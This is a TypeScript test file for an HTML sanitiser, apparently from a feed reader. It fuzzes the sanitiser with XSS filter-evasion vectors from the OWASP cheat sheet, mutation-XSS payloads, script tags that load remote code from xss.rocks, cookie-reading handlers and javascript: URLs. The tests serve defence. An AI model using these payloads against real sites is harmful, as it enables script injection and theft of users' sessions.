// @vitest-environment jsdom
// jsdom provides the browser's HTML parser (parse5, the standard's tree builder) for the second check below.
import fc from 'fast-check';
import { DomUtils, parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { htmlToText } from '../parse/text.js';
import { EMBED_FRAME_SOURCES, MEDIA_SOURCES, sanitizeContent, sanitizeContentWithText, stripTracking } from './index.js';
import { sanitizeSvg } from './svg.js';
import { MAX_DEPTH } from './nesting.js';

/**
 * The safety checks run on the OUTPUT, parsed twice: with htmlparser2 (what the sanitiser itself sees) and with
 * jsdom's parser (parse5), which follows the HTML standard's tree builder like a browser does. A parser differential
 * (mutation XSS) that hid markup from one would show up in the other.
 */

const BASE = 'https://blog.example.com/2026/11/post.html';

const ALLOWED_ELEMENTS = new Set([
  'p',
  'br',
  'hr',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'div',
  'span',
  'blockquote',
  'q',
  'cite',
  'pre',
  'code',
  'kbd',
  'samp',
  'var',
  'em',
  'strong',
  'b',
  'i',
  'u',
  's',
  'del',
  'ins',
  'mark',
  'sub',
  'sup',
  'small',
  'abbr',
  'dfn',
  'time',
  'bdi',
  'bdo',
  'wbr',
  'ruby',
  'rt',
  'rp',
  'section',
  'article',
  'aside',
  'header',
  'footer',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'table',
  'caption',
  'colgroup',
  'col',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
  'a',
  'img',
  'picture',
  'source',
  'figure',
  'figcaption',
  'audio',
  'video',
  'iframe',
  'details',
  'summary',
]);
const ALLOWED_ATTRIBUTES = new Set([
  'title',
  'lang',
  'dir',
  'href',
  'rel',
  'target',
  'src',
  'srcset',
  'sizes',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'referrerpolicy',
  'type',
  'media',
  'poster',
  'controls',
  'preload',
  'loop',
  'muted',
  'playsinline',
  'sandbox',
  'allow',
  'start',
  'reversed',
  'value',
  'colspan',
  'rowspan',
  'scope',
  'span',
  'datetime',
  'open',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'poster']);
/** The only hosts an output iframe may load from: what the page's CSP frame-src allows (http/app.ts). */
const IFRAME_HOSTS = new Set(['www.youtube-nocookie.com', 'player.vimeo.com', 'www.dailymotion.com', 'geo.dailymotion.com']);
const RASTER_DATA = /^data:image\/(png|jpeg|jpg|gif|webp)(;base64)?,/i;

interface El {
  name: string;
  attrs: Array<[string, string]>;
  /** null for HTML; jsdom tells the namespace, htmlparser2 does not. */
  namespace: string | null;
}

function problemsOf(el: El): string[] {
  const problems: string[] = [];
  const where = `<${el.name}>`;
  if (!ALLOWED_ELEMENTS.has(el.name)) problems.push(`element ${where}`);
  if (el.namespace !== null && el.namespace !== 'http://www.w3.org/1999/xhtml') problems.push(`namespace ${el.namespace} on ${where}`);
  for (const [name, value] of el.attrs) {
    if (name.startsWith('on')) problems.push(`event handler ${name} on ${where}`);
    if (name === 'style') problems.push(`style on ${where}`);
    if (!ALLOWED_ATTRIBUTES.has(name)) problems.push(`attribute ${name} on ${where}`);
    if (!URL_ATTRIBUTES.has(name)) continue;
    const urls = name === 'srcset' ? value.split(/,\s+/).map((c) => c.trim().split(/\s+/)[0]) : [value];
    for (const u of urls) {
      if (/^data:/i.test(u)) {
        if (!(el.name === 'img' && name === 'src' && RASTER_DATA.test(u))) problems.push(`data: URL in ${name} on ${where}`);
        continue;
      }
      let url: URL;
      try {
        url = new URL(u);
      } catch {
        problems.push(`relative or invalid URL ${JSON.stringify(u)} in ${name} on ${where}`);
        continue;
      }
      const ok = el.name === 'iframe' ? ['https:'] : name === 'href' ? ['http:', 'https:', 'mailto:'] : ['http:', 'https:'];
      if (!ok.includes(url.protocol)) problems.push(`${url.protocol} URL in ${name} on ${where}`);
    }
  }
  if (el.name === 'iframe') {
    const attrs = new Map(el.attrs);
    const src = attrs.get('src');
    if (!src || !IFRAME_HOSTS.has(new URL(src).hostname)) problems.push(`iframe from ${src}`);
    if (attrs.get('sandbox') !== 'allow-scripts allow-same-origin allow-popups allow-presentation') problems.push('iframe sandbox');
    if (attrs.get('allow') !== 'fullscreen') problems.push('iframe allow');
  }
  return problems;
}

function viaHtmlparser2(html: string): El[] {
  const out: El[] = [];
  const walk = (nodes: ReturnType<typeof parseDocument>['children']): void => {
    for (const node of nodes) {
      if (!DomUtils.isTag(node)) continue;
      out.push({ name: node.name, attrs: Object.entries(node.attribs), namespace: null });
      walk(node.children);
    }
  };
  walk(parseDocument(html).children);
  return out;
}

function viaBrowserParser(html: string): El[] {
  // innerHTML on a <div>, as the web app inserts article HTML.
  const div = document.createElement('div');
  div.innerHTML = html;
  return [...div.querySelectorAll('*')].map((e) => ({
    name: e.localName,
    attrs: [...e.attributes].map((a) => [a.name, a.value] as [string, string]),
    namespace: e.namespaceURI,
  }));
}

function problems(html: string): string[] {
  return [...viaHtmlparser2(html).flatMap(problemsOf), ...viaBrowserParser(html).flatMap(problemsOf)];
}

function expectSafe(input: string, baseUrl: string | null = BASE): string {
  const out = sanitizeContent(input, { baseUrl });
  expect(problems(out), `input: ${input}\noutput: ${out}`).toEqual([]);
  return out;
}

/** OWASP XSS Filter Evasion Cheat Sheet vectors, plus mutation-XSS and feed-specific ones. */
const VECTORS: string[] = [
  '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  '<IMG SRC=java\0script:alert("XSS")>',
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  '<XSS STYLE="behavior: url(xss.htc);">',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  `<IFRAME SRC=javascript:alert('XSS')></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD BACKGROUND="javascript:alert('XSS')">x</TD></TR></TABLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<isindex type=image src=1 onerror=alert(1)><isindex action=javascript:alert(1) type=image>',
  '<form action="javascript:alert(1)"><input type=submit><button formaction=javascript:alert(1)>x</button><select><option>o</option></select><textarea>t</textarea></form>',
  // mutation XSS: content that parsers disagree about (DOMPurify bypasses, CVE-2020-26870 and kin)
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>',
  '<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=alert(1)></iframe>',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  // URL schemes in every URL attribute
  '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#x6A;avascript:alert(1)">x</a><a href="java&#0;script:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a><a href="\x01javascript:alert(1)">x</a><a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="VBScript:msgbox(1)">x</a><a href="livescript:alert(1)">x</a>',
  '<video src=x onerror=alert(1) poster="javascript:alert(1)"><source src="javascript:alert(1)" onerror=alert(1)></video>',
  '<audio src="javascript:alert(1)" autoplay onplay=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<img srcset="javascript:alert(1) 1x, data:image/svg+xml,<svg/onload=alert(1)> 2x">',
  '<picture><source srcset="javascript:alert(1)"><source srcset="data:image/svg+xml,x"><img src="data:image/svg+xml,x"></picture>',
  '<object data="javascript:alert(1)"></object><applet code="x"></applet><embed src="javascript:alert(1)">',
  '<a href="https://example.com/" style="position:fixed;inset:0" target="_self" rel="opener">overlay</a>',
  '<div id="__proto__" class="x" __proto__="y" constructor="z">proto</div>',
  '<a xlink:href="javascript:alert(1)">x</a><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi',
  '<marquee onstart=alert(1)>x</marquee><blink onfocus=alert(1) autofocus tabindex=1>',
  // nesting and malformation
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p><b><i><a href=https://example.com/>open <img src="x.png"',
  '<img src="x\0" onerror=alert(1)>\0<scr\0ipt>alert(1)</script>',
  '<div><div><div><span><a href="javascript:alert(1)"><img src="javascript:alert(1)"></a></span></div>',
  '<a href="http://example.com/"><a href="javascript:alert(1)">nested</a></a>',
  '<iframe src="https://evil.example/embed/x"></iframe><iframe src="http://www.youtube.com/embed/x"></iframe><iframe src="https://www.youtube.com.evil.example/embed/x"></iframe><iframe src="//www.youtube.com/watch?v=x"></iframe>',
  '<iframe src="https://user:pw@www.youtube.com/embed/x" sandbox="allow-top-navigation allow-forms"></iframe>',
];

describe('sanitizeContent: filter-evasion vectors', () => {
  it('has at least 40 vectors', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(VECTORS)('%s', (vector) => {
    expectSafe(vector);
    expectSafe(vector, null);
    expectSafe(`<p>before ${vector} after</p>`);
  });

  it('never outputs script text from the vectors as markup', () => {
    for (const v of VECTORS) {
      const out = sanitizeContent(v, { baseUrl: BASE });
      expect(viaBrowserParser(out).some((e) => e.name === 'script' || e.name === 'style')).toBe(false);
    }
  });
});

/** Pieces an attacker composes from: tags, attribute openers, quotes, schemes, encodings, comments, raw-text ends. */
const FRAGMENTS = [
  '<script>',
  '</script>',
  '<SCRIPT SRC=x.js>',
  '<img',
  '<img src=x',
  ' src=',
  ' href=',
  ' onerror=',
  ' onload=',
  ' style=',
  ' srcset=',
  ' poster=',
  ' on',
  'alert(1)',
  'javascript:',
  'JaVaScRiPt:',
  'jav&#x09;ascript:',
  '&#106;&#97;&#118;&#97;',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'data:image/png;base64,AA',
  '"',
  "'",
  '`',
  '>',
  '<',
  '/',
  '/>',
  '=',
  ' ',
  '\t',
  '\n',
  '\0',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '<svg',
  '<svg/onload=alert(1)>',
  '<math>',
  '<mglyph>',
  '<style>',
  '</style>',
  '<xmp>',
  '</xmp>',
  '<noscript>',
  '</noscript>',
  '<textarea>',
  '</textarea>',
  '<title>',
  '</title>',
  '<iframe',
  '<iframe src=',
  '</iframe>',
  'https://www.youtube.com/embed/x',
  'https://evil.example/',
  '<a',
  '<a href=',
  '</a>',
  '<p>',
  '</p>',
  '<table>',
  '<td background=',
  '<object data=',
  '<embed src=',
  '<form action=',
  '<base href=',
  '<meta http-equiv=refresh content="0;url=',
  '<link rel=stylesheet href=',
  '<video',
  '<source',
  '<picture>',
  'expression(',
  'url(',
  '&quot;',
  '&lt;',
  '&gt;',
  '&amp;',
  '&colon;',
  '<template>',
  '<select><option>',
  '<plaintext>',
  '<details ontoggle=',
];

describe('sanitizeContent: property', () => {
  it('output passes every check for arbitrary compositions of dangerous fragments', () => {
    const piece = fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...FRAGMENTS) }, { weight: 1, arbitrary: fc.string({ maxLength: 8 }) });
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.constantFrom<string | null>(BASE, null), (pieces, baseUrl) => {
        const out = sanitizeContent(pieces.join(''), { baseUrl });
        expect(problems(out), `output: ${out}`).toEqual([]);
      }),
      { numRuns: 600 },
    );
  });

  it('is idempotent on its own output for the same fragments', () => {
    const piece = fc.constantFrom(...FRAGMENTS);
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const once = sanitizeContent(pieces.join(''), { baseUrl: BASE });
        expect(problems(sanitizeContent(once, { baseUrl: BASE }))).toEqual([]);
      }),
      { numRuns: 200 },
    );
  });
});

describe('sanitizeContentWithText', () => {
  const piece = fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...FRAGMENTS) }, { weight: 1, arbitrary: fc.string({ maxLength: 8 }) });

  it('gives the HTML sanitizeContent gives and the text htmlToText reads from it (property)', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.constantFrom<string | null>(BASE, null), (pieces, baseUrl) => {
        const html = pieces.join('');
        const out = sanitizeContentWithText(html, { baseUrl });
        expect(out.html).toBe(sanitizeContent(html, { baseUrl }));
        expect(out.text).toBe(htmlToText(out.html));
      }),
      { numRuns: 400 },
    );
  });

  it('never gives U+0000, in the HTML or the text, however the input spells it (property)', () => {
    // process-document.ts relies on it: it does not search these fields for NUL before they are stored.
    const nul = fc.constantFrom('\0', '&#0;', '&#x0;', '&#00000;', '&#X00', '<p title="a\0b">', '<img alt="&#0;" src="https://e.example/\0.png">', '<a href="/\0x">');
    const any = fc.oneof({ weight: 3, arbitrary: piece }, { weight: 2, arbitrary: nul });
    fc.assert(
      fc.property(fc.array(any, { maxLength: 40 }), (pieces) => {
        const out = sanitizeContentWithText(pieces.join(''), { baseUrl: BASE });
        expect(out.html.includes('\0') || out.text.includes('\0')).toBe(false);
      }),
      { numRuns: 400 },
    );
  });

  it('keeps nothing of one call in the next: hostile and clean inputs interleaved answer as each does alone', () => {
    // docs/ARCHITECTURE.md "Rules" 15: an unclosed <textarea>, <svg>, <script> or a dropped element left open must not
    // swallow the next document.
    const clean = '<p>Hello <a href="/x">world</a></p>';
    const alone = sanitizeContentWithText(clean, { baseUrl: BASE });
    for (const hostile of [
      '<textarea>',
      '<script>alert(1)',
      '<svg><p>',
      '<math><mi>',
      '<iframe src="https://evil.example/">',
      '<img src=x width=1><b>',
      '<a>',
      '<div>'.repeat(500),
    ]) {
      sanitizeContentWithText(hostile, { baseUrl: BASE });
      expect(sanitizeContentWithText(clean, { baseUrl: BASE })).toEqual(alone);
    }
    expect(alone).toEqual({ html: '<p>Hello <a href="https://blog.example.com/x" rel="noopener noreferrer" target="_blank">world</a></p>', text: 'Hello world' });
  });

  it('drops the text of dropped elements and spaces block elements apart', () => {
    expect(sanitizeContentWithText('<p>a</p><p>b<script>c</script></p><iframe src="https://evil.example/">d</iframe>e<br>f', { baseUrl: BASE }).text).toBe('a b e f');
  });

  it('drops an attribute whose value is not one of its allowed values', () => {
    expect(sanitizeContent('<ol type="x" start="2"><li>a</li></ol><table><tr><th scope="nope">h</th></tr></table>', { baseUrl: BASE })).toBe(
      '<ol start="2"><li>a</li></ol><table><tr><th>h</th></tr></table>',
    );
  });
});

describe('sanitizeContent: behaviour', () => {
  const clean = (html: string, baseUrl: string | null = BASE) => sanitizeContent(html, { baseUrl });
  const elements = (html: string) => viaBrowserParser(clean(html));

  it('keeps article markup and drops class, id and style', () => {
    const out = clean(
      '<h2 id="t" class="x">Title</h2><p style="color:red" lang="de" dir="ltr" title="t">Text <em>em</em> <strong>s</strong> <code>c</code></p><ul><li>a</li></ul><blockquote><p>q</p></blockquote><table><thead><tr><th scope="col" colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">d</td></tr></tbody></table><figure><img src="a.png" alt="A"><figcaption>cap</figcaption></figure><hr><pre><code>x &lt; y</code></pre><time datetime="2026-11-01">1 Nov</time><ol start="3" reversed><li>x</li></ol>',
    );
    expect(out).toContain('<h2>Title</h2>');
    expect(out).toContain('<p lang="de" dir="ltr" title="t">Text <em>em</em> <strong>s</strong> <code>c</code></p>');
    expect(out).toContain('<th scope="col" colspan="2">h</th>');
    expect(out).toContain('<td rowspan="2">d</td>');
    expect(out).toContain('<figcaption>cap</figcaption>');
    expect(out).toContain('<pre><code>x &lt; y</code></pre>');
    expect(out).toContain('<time datetime="2026-11-01">1 Nov</time>');
    expect(out).toContain('<ol start="3" reversed>');
    expect(out).not.toMatch(/class=|id=|style=/);
  });

  it('keeps an iframe from an allowed video host, sandboxed, lazy and with a fixed referrer policy', () => {
    const out = clean(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc?rel=0" width="560" height="315" frameborder="0" allowfullscreen allow="autoplay; camera" sandbox="allow-top-navigation" onload="x()"></iframe>',
    );
    expect(out).toBe(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc?rel=0" width="560" height="315" sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" allow="fullscreen" loading="lazy" referrerpolicy="strict-origin-when-cross-origin"></iframe>',
    );
    expect(clean('<iframe src="https://player.vimeo.com/video/1"></iframe>')).toContain('src="https://player.vimeo.com/video/1"');
    expect(clean('<iframe src="https://www.dailymotion.com/embed/video/x1"></iframe>')).toContain('<iframe');
  });

  it('rewrites YouTube embeds to the no-cookie player, the host the page allows frames from', () => {
    for (const host of ['www.youtube.com', 'youtube.com', 'youtube-nocookie.com']) {
      expect(clean(`<iframe src="https://${host}/embed/abc?start=5"></iframe>`)).toContain('src="https://www.youtube-nocookie.com/embed/abc?start=5"');
    }
  });

  it('lists exactly the frame and media sources its output can hold, for the Content-Security-Policy', () => {
    expect([...EMBED_FRAME_SOURCES].sort()).toEqual([...IFRAME_HOSTS].map((h) => `https://${h}`).sort());
    expect([...MEDIA_SOURCES].sort()).toEqual(['http:', 'https:']);
  });

  it('drops iframes from other hosts, over http, or outside the embed path, with their fallback content', () => {
    for (const src of [
      'https://evil.example/embed/x',
      'http://www.youtube.com/embed/x',
      'https://www.youtube.com/watch?v=x',
      'https://www.youtube.com.evil.example/embed/x',
      'javascript:alert(1)',
    ]) {
      expect(clean(`<p>a<iframe src="${src}">fallback</iframe>b</p>`)).toBe('<p>ab</p>');
    }
  });

  it('resolves relative URLs against the base and drops what cannot be resolved', () => {
    expect(clean('<a href="../other.html">x</a>')).toContain('href="https://blog.example.com/2026/other.html"');
    expect(clean('<a href="//cdn.example.com/x">x</a>')).toContain('href="https://cdn.example.com/x"');
    expect(clean('<img src="/img/a.png" srcset="a-1x.png 1x, /b-2x.png 2x">')).toContain(
      'src="https://blog.example.com/img/a.png" srcset="https://blog.example.com/2026/11/a-1x.png 1x, https://blog.example.com/b-2x.png 2x"',
    );
    expect(clean('<video src="v.mp4" poster="p.jpg"></video>')).toContain('src="https://blog.example.com/2026/11/v.mp4" poster="https://blog.example.com/2026/11/p.jpg"');
    expect(clean('<picture><source srcset="w.webp 640w" type="image/webp"><img src="a.png"></picture>')).toContain(
      '<source srcset="https://blog.example.com/2026/11/w.webp 640w" type="image/webp" />',
    );
    // Without a base, relative references have no meaning: links become text, images go.
    expect(clean('<p><a href="/x">text</a><img src="/a.png"></p>', null)).toBe('<p>text</p>');
    expect(clean('<a href="https://example.com/">abs</a>', null)).toContain('href="https://example.com/"');
  });

  it('opens links in a new tab without opener or referrer, and unwraps links with unsafe targets', () => {
    expect(clean('<a href="https://example.com/" target="_self" rel="opener" name="n">x</a>')).toBe(
      '<a href="https://example.com/" rel="noopener noreferrer" target="_blank">x</a>',
    );
    expect(clean('<a href="mailto:me@example.com">mail</a>')).toContain('href="mailto:me@example.com"');
    expect(clean('<p><a href="ftp://example.com/">f</a> <a href="tel:123">t</a> <a>none</a></p>')).toBe('<p>f t none</p>');
  });

  it('lazy-loads images and decodes them off the main thread', () => {
    expect(clean('<img src="https://example.com/a.png" alt="A" width="640" height="480" class="wp-image" style="x">')).toBe(
      '<img src="https://example.com/a.png" alt="A" width="640" height="480" loading="lazy" decoding="async" referrerpolicy="no-referrer" />',
    );
    expect(clean('<img src="https://example.com/a.png" width="100%" height="auto">')).toBe(
      '<img src="https://example.com/a.png" alt="" loading="lazy" decoding="async" referrerpolicy="no-referrer" />',
    );
  });

  it('removes tracking pixels and images from tracker hosts', () => {
    expect(clean('<p>x<img src="https://example.com/p.gif" width="1" height="1"></p>')).toBe('<p>x</p>');
    expect(clean('<p>x<img src="https://example.com/p.gif" width="0" height="0"></p>')).toBe('<p>x</p>');
    for (const src of [
      'https://feeds.feedburner.com/~r/Blog/~4/abc',
      'https://feeds.feedburner.com/~ff/Blog?d=yIl2AUoC8zA',
      'https://pixel.wp.com/b.gif?v=1',
      'https://stats.wordpress.com/b.gif',
      'https://www.google-analytics.com/collect?v=1',
      'https://pixel.quantserve.com/pixel/p-1.gif',
      'https://da.feedsportal.com/r/1/rc.img',
      'https://sb.scorecardresearch.com/p?c1=2',
    ]) {
      expect(clean(`<p>x<img src="${src}" alt=""></p>`), src).toBe('<p>x</p>');
    }
    // Content images on the same big hosts stay.
    expect(clean('<img src="https://feeds.feedburner.com/images/logo.png">')).toContain('<img');
  });

  it('strips tracking parameters from links and images, keeping the rest byte for byte', () => {
    expect(clean('<a href="https://example.com/a?utm_source=rss&amp;id=7&amp;utm_medium=feed&amp;fbclid=x#top">x</a>')).toContain(
      'href="https://example.com/a?id=7#top"',
    );
    expect(clean('<img src="https://cdn.example.com/i.jpg?w=600&amp;sig=a%2Fb&amp;utm_campaign=c">')).toContain(
      'src="https://cdn.example.com/i.jpg?w=600&amp;sig=a%2Fb"',
    );
  });

  it('keeps raster data: images and drops svg and other data: URLs', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(clean('<img src="data:image/webp;base64,UklGRg==">')).toContain('<img');
    expect(clean('<p>x<img src="data:image/svg+xml;base64,PHN2Zz4="></p>')).toBe('<p>x</p>');
    expect(clean('<p>x<img src="data:text/html;base64,PHNjcmlwdD4="></p>')).toBe('<p>x</p>');
  });

  it('gives audio and video controls and never autoplay', () => {
    const [video] = elements('<video src="https://example.com/v.mp4" autoplay muted loop width="640"></video>');
    expect(new Map(video.attrs)).toEqual(
      new Map([
        ['src', 'https://example.com/v.mp4'],
        ['width', '640'],
        ['loop', ''],
        ['muted', ''],
        ['controls', ''],
        ['preload', 'none'],
      ]),
    );
    expect(clean('<audio src="https://example.com/a.mp3" autoplay></audio>')).toBe('<audio src="https://example.com/a.mp3" controls preload="none"></audio>');
  });

  it('drops forms, plugins, metadata and foreign content', () => {
    expect(clean('<form action="/x"><label>Name <input name="n"></label><button>Send</button></form>')).toBe('Name Send');
    expect(clean('<p>a<object data="x.swf"><param name="p">fb</object><embed src="x.swf">b</p>')).toBe('<p>ab</p>');
    expect(clean('<base href="https://evil.example/"><meta http-equiv="refresh" content="0"><link rel="stylesheet" href="x.css"><p>t</p>')).toBe('<p>t</p>');
    expect(clean('<p>a<noscript>no script</noscript><svg><text>svg</text></svg><math><mi>x</mi></math>b</p>')).toBe('<p>ab</p>');
  });

  it('keeps the safe text after an svg or math that is never closed, as a browser ends it at a breakout tag', () => {
    expect(clean('<p>Before</p><svg/onload=alert(1)><p>Closing safe text</p>')).toBe('<p>Before</p><p>Closing safe text</p>');
    expect(clean('<svg onload=alert(1)>inside <circle/><div>After <b onclick=x>bold</b></div>')).toBe('<div>After <b>bold</b></div>');
